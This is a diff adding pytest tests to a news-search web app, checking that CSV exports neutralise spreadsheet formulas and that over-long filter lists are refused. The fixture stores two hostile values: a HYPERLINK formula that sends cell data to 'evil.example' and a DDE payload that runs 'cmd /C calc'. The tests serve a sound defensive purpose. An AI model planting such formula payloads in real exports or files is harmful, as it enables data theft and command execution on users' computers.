@@ -2,7 +2,11 @@
 
 from __future__ import annotations
 
+import csv
+import io
+
 import httpx
+import pytest
 
 from tests.web.conftest import TOKEN, LiveServer
 
@@ -228,3 +232,57 @@ def test_delete_needs_the_token_and_removes_the_article(tmp_path) -> None:
 def test_delete_takes_a_whole_id_not_a_prefix(api) -> None:
     response = api.delete("/api/v1/articles/abcd", headers={"Authorization": f"Bearer {TOKEN}"})
     assert response.status_code == 404 and "whole id" in response.json()["error"]["message"]
+
+
+# -- hostile exports and filters, on a store made by hand (no model) ------------------------------------------------
+
+FORMULA_TITLE = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'
+
+
+@pytest.fixture(scope="module")
+def hand_made_server(tmp_path_factory):
+    from hotspot.records import Article
+    from hotspot.store import Store
+    from hotspot.web import create_app
+
+    db = f"sqlite:///{tmp_path_factory.mktemp('hostile') / 'h.db'}"
+    store = Store(db)
+    store.save(Article(id=f"{9:016x}", source="/9.html", text="Gas prices rose in Aktau on Monday.", title=FORMULA_TITLE,
+                       site_name="@SUM(1+1)*cmd|' /C calc'!A0", content_hash="9" * 64, text_hash="8" * 64))
+    store.close()
+    with LiveServer(create_app(db)) as server:
+        yield server
+
+
+def test_search_csv_export_defuses_spreadsheet_formulas(hand_made_server) -> None:
+    response = httpx.get(f"{hand_made_server.url}/search", params={"q": "Aktau", "format": "csv"}, timeout=30)
+    [row] = list(csv.DictReader(io.StringIO(response.text)))
+    assert row["title"] == "'" + FORMULA_TITLE
+    assert row["site_name"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+
+
+@pytest.mark.parametrize("name", ["entity", "speaker", "event_type", "country", "outlet", "language"])
+def test_a_filter_repeated_a_thousand_times_is_refused_with_h081(hand_made_server, name: str) -> None:
+    params = [(name, f"value {n}") for n in range(999)]
+    response = httpx.get(f"{hand_made_server.url}/api/v1/search", params=params, timeout=30)
+    assert response.status_code == 400
+    assert response.json()["error"]["message"] == f"[H081] too many values for {name}: 999 (at most 50)"
+
+
+def test_too_many_filter_values_on_the_search_page_is_an_error_page(hand_made_server) -> None:
+    params = [("entity", f"value {n}") for n in range(51)]
+    response = httpx.get(f"{hand_made_server.url}/search", params=params, timeout=30)
+    assert response.status_code == 400 and "[H081]" in response.text and "<html" in response.text
+
+
+def test_too_many_filter_values_in_an_export_is_refused(hand_made_server) -> None:
+    params = [("speaker", f"value {n}") for n in range(51)] + [("format", "csv")]
+    response = httpx.get(f"{hand_made_server.url}/search", params=params, timeout=30)
+    assert response.status_code == 400 and "[H081]" in response.text
+
+
+def test_every_filter_at_its_bound_at_once_is_answered(hand_made_server) -> None:
+    params = [(name, f"value {n}") for name in ("entity", "speaker", "event_type", "country", "outlet", "language")
+              for n in range(50)]
+    response = httpx.get(f"{hand_made_server.url}/api/v1/search", params=[("q", "Aktau"), *params], timeout=30)
+    assert response.status_code == 200 and response.json()["total"] == 0
